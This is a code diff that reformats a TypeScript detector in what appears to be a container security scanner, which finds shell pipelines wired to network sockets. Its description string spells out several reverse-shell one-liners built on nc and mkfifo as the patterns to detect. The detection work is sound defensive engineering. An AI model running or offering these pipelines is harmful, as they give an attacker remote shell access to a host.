@@ -87,7 +87,11 @@ function networkSocketOf(c: ContainerEvidence, p: ProcessInfo): SocketInfo | und
 }
 
 /** Shortest pipeline path from one process to another along the edges, as the processes on it. */
-function path(edges: Map<number, ProcessInfo[]>, from: ProcessInfo, to: (p: ProcessInfo) => boolean): ProcessInfo[] | undefined {
+function path(
+  edges: Map<number, ProcessInfo[]>,
+  from: ProcessInfo,
+  to: (p: ProcessInfo) => boolean,
+): ProcessInfo[] | undefined {
   const queue: ProcessInfo[][] = [[from]];
   const seen = new Set([from.pid]);
   while (queue.length) {
@@ -122,7 +126,7 @@ export const shellPipeline: Detector = {
     goal: 'Catch the netcat pipelines that keep the shell off the socket: `cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f` (mkfifo), `sh -i < /tmp/f 2>&1 | nc ... > /tmp/f`, `nc -l -p PORT | sh`, `nc HOST P1 | sh | nc HOST P2`, and the same with socat, telnet or openssl. The fd links are followed from writer to reader across processes, so the tool that holds the connection or listener is tied to the shell that reads its commands or sends its output, whatever the tool is called.',
     blindSpots: [
       'Only pipelines alive at collection time are seen; host access to /proc is needed (over a remote engine API only the command-line patterns of reverse-shell and command-override apply).',
-      'A socat EXEC child is joined to socat by a socketpair, not a pipe: its unix-socket peer is not resolved here, and reverse-shell matches socat\'s command line instead.',
+      "A socat EXEC child is joined to socat by a socketpair, not a pipe: its unix-socket peer is not resolved here, and reverse-shell matches socat's command line instead.",
       'Named pipes are followed only when the writer has them on stdout or stderr and the reader holds them among its first 32 file descriptors.',
     ],
     falsePositives: [
@@ -140,21 +144,43 @@ export const shellPipeline: Detector = {
       const list = processesOf(c).list.filter((p) => p.stdio);
       if (!list.length) continue;
       const edges = pipelineEdges(list);
-      const net = new Map(list.map((p) => [p.pid, networkSocketOf(c, p)] as const).filter((x): x is [number, SocketInfo] => x[1] !== undefined));
+      const net = new Map(
+        list
+          .map((p) => [p.pid, networkSocketOf(c, p)] as const)
+          .filter((x): x is [number, SocketInfo] => x[1] !== undefined),
+      );
       const holdsNet = (p: ProcessInfo) => net.has(p.pid);
       for (const sh of list.filter(isInterpreter)) {
         if (holdsNet(sh)) continue; // a shell on the socket itself is reverse-shell's
         const takesProgram = readsProgramFromStdin(sh);
-        const inbound = takesProgram ? list.filter(holdsNet).map((n) => path(edges, n, (p) => p === sh)).find((r) => r !== undefined) : undefined;
+        const inbound = takesProgram
+          ? list
+              .filter(holdsNet)
+              .map((n) => path(edges, n, (p) => p === sh))
+              .find((r) => r !== undefined)
+          : undefined;
         const outbound = path(edges, sh, holdsNet);
         if (!inbound && !outbound) continue;
         const tool = (inbound?.[0] ?? outbound![outbound!.length - 1])!;
         const sock = net.get(tool.pid)!;
-        const where = sock.state === 'LISTEN' ? `listening on ${endpoint(sock, 'local')}` : `connected to ${endpoint(sock, 'remote')}`;
+        const where =
+          sock.state === 'LISTEN'
+            ? `listening on ${endpoint(sock, 'local')}`
+            : `connected to ${endpoint(sock, 'remote')}`;
         const evidence = [...new Set([...(inbound ?? []), ...(outbound ?? [])])].map((p) =>
-          ref('process', `pid ${p.pid}`, `${oneLine(p.cmdline || p.comm, 200)} | fd0-2: ${(p.stdio ?? []).map((t) => oneLine(t, 60)).join(', ')}${p.fdPaths?.length ? ` | open: ${oneLine(p.fdPaths.slice(0, 4).join(', '), 120)}` : ''}`),
+          ref(
+            'process',
+            `pid ${p.pid}`,
+            `${oneLine(p.cmdline || p.comm, 200)} | fd0-2: ${(p.stdio ?? []).map((t) => oneLine(t, 60)).join(', ')}${p.fdPaths?.length ? ` | open: ${oneLine(p.fdPaths.slice(0, 4).join(', '), 120)}` : ''}`,
+          ),
         );
-        evidence.push(ref('socket', `${sock.protocol} ${endpoint(sock, 'local')} -> ${endpoint(sock, 'remote')}`, `${sock.state} inode ${sock.inode}, held by ${oneLine(nameOf(tool), 40)} (pid ${tool.pid})`));
+        evidence.push(
+          ref(
+            'socket',
+            `${sock.protocol} ${endpoint(sock, 'local')} -> ${endpoint(sock, 'remote')}`,
+            `${sock.state} inode ${sock.inode}, held by ${oneLine(nameOf(tool), 40)} (pid ${tool.pid})`,
+          ),
+        );
         const shellName = oneLine(sh.cmdline || nameOf(sh), 60);
         if (inbound) {
           hits.push({
@@ -165,9 +191,23 @@ export const shellPipeline: Detector = {
             attack: ['T1059.004', 'T1095'],
           });
         } else if (takesProgram || interactive(sh)) {
-          hits.push({ container: c, ref: `pipeline-out:${nameOf(sh)}:${nameOf(tool)}:${endpoint(sock, sock.state === 'LISTEN' ? 'local' : 'remote')}`, summary: `Interactive shell ${shellName} (pid ${sh.pid}) in ${c.container.name} sends its output to ${oneLine(nameOf(tool), 30)} ${where}, through pipes ${chain(outbound!)}.`, evidence, severity: 'high', attack: ['T1059.004', 'T1095'] });
+          hits.push({
+            container: c,
+            ref: `pipeline-out:${nameOf(sh)}:${nameOf(tool)}:${endpoint(sock, sock.state === 'LISTEN' ? 'local' : 'remote')}`,
+            summary: `Interactive shell ${shellName} (pid ${sh.pid}) in ${c.container.name} sends its output to ${oneLine(nameOf(tool), 30)} ${where}, through pipes ${chain(outbound!)}.`,
+            evidence,
+            severity: 'high',
+            attack: ['T1059.004', 'T1095'],
+          });
         } else {
-          hits.push({ container: c, ref: `pipeline-out:${nameOf(sh)}:${nameOf(tool)}:${endpoint(sock, sock.state === 'LISTEN' ? 'local' : 'remote')}`, summary: `Shell script ${shellName} (pid ${sh.pid}) in ${c.container.name} pipes its output to ${oneLine(nameOf(tool), 30)} ${where} (${chain(outbound!)}); it reads no commands from the network.`, evidence, severity: 'low', attack: ['T1095'] });
+          hits.push({
+            container: c,
+            ref: `pipeline-out:${nameOf(sh)}:${nameOf(tool)}:${endpoint(sock, sock.state === 'LISTEN' ? 'local' : 'remote')}`,
+            summary: `Shell script ${shellName} (pid ${sh.pid}) in ${c.container.name} pipes its output to ${oneLine(nameOf(tool), 30)} ${where} (${chain(outbound!)}); it reads no commands from the network.`,
+            evidence,
+            severity: 'low',
+            attack: ['T1095'],
+          });
         }
       }
     }
